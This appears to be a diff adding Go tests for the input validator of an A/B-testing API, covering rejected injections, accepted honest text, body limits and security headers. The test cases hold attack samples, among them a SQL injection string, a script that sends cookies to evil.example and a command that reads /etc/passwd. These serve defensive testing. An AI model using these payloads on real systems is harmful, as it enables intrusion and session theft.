@@ -1,0 +1,160 @@
+package api
+
+import (
+	"encoding/json"
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/prometheus/client_golang/prometheus/testutil"
+
+	"github.com/abacus-ab/abacus/internal/validate"
+)
+
+// newValidatingHarness is newHarness with the default input validator.
+func newValidatingHarness(t *testing.T, cfg Config) *harness {
+	t.Helper()
+	v, err := validate.New(validate.DefaultConfig())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return newHarnessWith(t, cfg, func(_ *harness, d *Deps) { d.Validator = v })
+}
+
+// TestInputValidation checks what users see: attacks in any field, query
+// or path parameter are refused with 400 naming the field and the rule and
+// never echoing the value; honest text that naive filters flag passes;
+// variant configurations (prompts, HTML) are exempt.
+func TestInputValidation(t *testing.T) {
+	h := newValidatingHarness(t, Config{})
+	create := func(name, description, config string) (int, []byte) {
+		body := `{"test_name": ` + q(name) + `, "description": ` + q(description) + `, "test_type": "prompt",
+		  "variants": [
+		    {"variant_id": "control", "variant_name": "Control", "configuration": ` + config + `, "traffic_percentage": 50},
+		    {"variant_id": "b", "variant_name": "B", "configuration": {}, "traffic_percentage": 50}],
+		  "control_variant_id": "control", "primary_metric": "conversion"}`
+		return h.doRaw(http.MethodPost, "/api/ab-testing/tests", "application/json", body)
+	}
+	rejected := []struct {
+		name, testName, description, wantField, wantRule string
+	}{
+		{"sql injection in the name", "x' OR '1'='1' --", "", "test_name", "sql_injection"},
+		{"xss in the description", "XSS", `<script>document.location='https://evil.example/'+document.cookie</script>`, "description", "xss"},
+		{"url-encoded xss", "XSS", `%3Cscript%3Ealert(1)%3C%2Fscript%3E`, "description", "xss"},
+		{"command injection", "Cmd", "report; cat /etc/passwd", "description", "command_injection"},
+	}
+	for _, tt := range rejected {
+		t.Run(tt.name, func(t *testing.T) {
+			code, raw := create(tt.testName, tt.description, `{}`)
+			var e errorBody
+			if err := json.Unmarshal(raw, &e); err != nil || code != http.StatusBadRequest || e.Field != tt.wantField || e.Rule != tt.wantRule {
+				t.Fatalf("create = %d %s, want 400 with field %q and rule %q", code, raw, tt.wantField, tt.wantRule)
+			}
+			payload := tt.testName
+			if tt.description != "" {
+				payload = tt.description
+			}
+			if strings.Contains(string(raw), payload) {
+				t.Errorf("the answer echoes the rejected value: %s", raw)
+			}
+		})
+	}
+	if n := testutil.ToFloat64(h.api.inputRejections.WithLabelValues("sql_injection")); n != 1 {
+		t.Errorf("abacus_input_rejected_total{rule=sql_injection} = %v, want 1", n)
+	}
+
+	// Honest input that naive filters refuse.
+	code, raw := create("O'Brien's checkout: select the best of 2 (drop-off < 5%)",
+		"Union of the old flow and the new one; delete nothing. If x > 1 or 1=1 in prose, it costs $5 | see https://example.com/a?b=1&c=2 — 日本語 ✅",
+		`{"prompt": "SELECT name FROM users WHERE id = 1; -- answer in <b>HTML</b>", "system": "$(whoami) is just text here"}`)
+	if code != http.StatusCreated {
+		t.Fatalf("honest create = %d %s, want 201", code, raw)
+	}
+	var created map[string]any
+	if err := json.Unmarshal(raw, &created); err != nil {
+		t.Fatal(err)
+	}
+	id := created["test_id"].(string)
+	code, raw = h.doRaw(http.MethodGet, "/api/ab-testing/tests/"+id, "", "")
+	if code != http.StatusOK || !strings.Contains(string(raw), "SELECT name FROM users WHERE id = 1; -- answer in \\u003cb\\u003eHTML\\u003c/b\\u003e") {
+		t.Errorf("GET = %d %s: the configuration must come back as stored", code, raw)
+	}
+
+	// Null bytes are removed from free text, refused in identifiers.
+	code, raw = create("Null\\u0000byte", "", `{}`)
+	if code != http.StatusCreated || !strings.Contains(string(raw), `"test_name":"Nullbyte"`) {
+		t.Errorf("null byte in a name = %d %s, want 201 with it removed", code, raw)
+	}
+	code, raw = h.doRaw(http.MethodPost, "/api/ab-testing/tests/"+id+"/assign", "application/json", `{"user_id": "u\u00001"}`)
+	if e := decodeError(t, raw); code != http.StatusBadRequest || e.Field != "user_id" || e.Rule != "null_byte" {
+		t.Errorf("null byte in user_id = %d %s, want 400 null_byte on user_id", code, raw)
+	}
+
+	// Query and path parameters.
+	code, raw = h.doRaw(http.MethodGet, "/api/ab-testing/tests?status=%3Cscript%3Ealert(1)%3C/script%3E", "", "")
+	if e := decodeError(t, raw); code != http.StatusBadRequest || e.Field != "query.status" || e.Rule != "xss" {
+		t.Errorf("xss in a query parameter = %d %s", code, raw)
+	}
+	code, raw = h.doRaw(http.MethodGet, "/api/ab-testing/tests/x%27%20OR%20%271%27=%271", "", "")
+	if e := decodeError(t, raw); code != http.StatusBadRequest || e.Field != "path.test_id" {
+		t.Errorf("injection in a path parameter = %d %s", code, raw)
+	}
+
+	// Nesting: a crafted body cannot exhaust the stack.
+	deep := strings.Repeat(`{"a":`, 200) + `1` + strings.Repeat(`}`, 200)
+	code, raw = create("Deep", "", deep)
+	if e := decodeError(t, raw); code != http.StatusBadRequest || e.Rule != "max_depth" {
+		t.Errorf("200 levels of nesting = %d %s, want 400 max_depth", code, raw)
+	}
+}
+
+// TestBodyLimitsBeforeAuthentication checks that an oversized body is
+// refused (413) before anything reads it, with or without a key, and that
+// an anonymous request's body is not scanned: it gets 401, not 400.
+func TestBodyLimitsBeforeAuthentication(t *testing.T) {
+	h := newValidatingHarness(t, Config{MaxBodyBytes: 2048})
+	big := `{"test_name": "` + strings.Repeat("a", 4096) + `"}`
+	for _, key := range []string{h.key, ""} {
+		hdr := map[string]string{}
+		if key != "" {
+			hdr[HeaderAPIKey] = key
+		}
+		resp, raw := h.call(http.MethodPost, "/api/ab-testing/tests", big, hdr)
+		if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(string(raw), `"error"`) {
+			t.Errorf("oversized body (key %v) = %d %s, want 413", key != "", resp.StatusCode, raw)
+		}
+	}
+	resp, raw := h.call(http.MethodPost, "/api/ab-testing/tests", `{"test_name": "x' OR '1'='1' --"}`, nil)
+	if resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("anonymous body with an attack = %d %s, want 401 (bodies are read only after authentication)", resp.StatusCode, raw)
+	}
+}
+
+// TestSecurityHeaders checks the headers on a success, an error and a
+// rejection, and that no server banner is sent.
+func TestSecurityHeaders(t *testing.T) {
+	h := newValidatingHarness(t, Config{})
+	for _, path := range []string{"/healthz", "/api/ab-testing/tests", "/api/ab-testing/tests/missing", "/api/ab-testing/tests?status=%3Cscript%3E"} {
+		resp, _ := h.call(http.MethodGet, path, "", map[string]string{HeaderAPIKey: h.key})
+		if resp.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "default-src 'none'") {
+			t.Errorf("GET %s (%d): security headers %v", path, resp.StatusCode, resp.Header)
+		}
+		if s := resp.Header.Get("Server"); s != "" {
+			t.Errorf("GET %s: Server header %q, want none", path, s)
+		}
+	}
+}
+
+func q(s string) string {
+	b, _ := json.Marshal(s)
+	return strings.ReplaceAll(string(b), `\\u0000`, `\u0000`)
+}
+
+func decodeError(t *testing.T, raw []byte) errorBody {
+	t.Helper()
+	var e errorBody
+	if err := json.Unmarshal(raw, &e); err != nil {
+		t.Fatalf("error body %q: %v", raw, err)
+	}
+	return e
+}
